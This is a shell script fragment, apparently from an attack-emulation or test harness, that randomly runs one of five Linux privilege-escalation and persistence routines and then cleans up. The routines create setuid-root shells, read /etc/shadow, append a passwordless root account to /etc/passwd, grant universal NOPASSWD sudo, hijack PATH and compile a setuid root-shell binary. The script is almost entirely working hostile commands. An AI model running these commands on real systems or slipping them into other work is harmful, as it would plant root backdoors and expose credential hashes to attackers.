# From little to everything.
case $((v % 5)) in
0) cp /bin/sh /tmp/.s; chown 0:0 /tmp/.s; chmod 4755 /tmp/.s; setpriv --reuid 1000 /tmp/.s -p -c 'id; cat /etc/shadow' ;;
1) setpriv --reuid 1000 --regid 1000 --clear-groups sh -c 'unshare -Ur sh -c "id; mount -t tmpfs x /mnt; cat /etc/shadow"; find / -xdev -perm -4000; for b in su sudo passwd chsh mount; do command -v $b; done' ;;
2) cp /bin/sh /var/tmp/bash; chmod u+s /var/tmp/bash; /var/tmp/bash -p -c 'chmod 777 /etc/passwd; echo r::0:0::/:/bin/sh >>/etc/passwd' ;;
3) mkdir -p /etc/sudoers.d; echo 'ALL ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/zz; chmod 440 /etc/sudoers.d/zz; mkdir -p /tmp/p; printf '#!/bin/sh\nid >/tmp/p/out\n' >/tmp/p/ls; chmod 755 /tmp/p/ls; PATH=/tmp/p:$PATH ls ;;
4) if have gcc; then printf '#include <unistd.h>\nint main(void){setuid(0);setgid(0);execl("/bin/sh","sh","-c","id; cat /etc/shadow >/dev/null",(char*)0);}\n' >/tmp/e.c; gcc /tmp/e.c -o /tmp/e; chmod 4755 /tmp/e; setpriv --reuid 1000 /tmp/e; else cp /bin/busybox /tmp/b; chmod 4755 /tmp/b; setpriv --reuid 1000 /tmp/b sh -c id; fi ;;
esac </dev/null >/dev/null 2>&1
#--- cleanup
sed -i '/^r:/d' /etc/passwd; chmod 644 /etc/passwd; rm -rf /tmp/.s /var/tmp/bash /etc/sudoers.d/zz /tmp/p /tmp/e /tmp/e.c /tmp/b
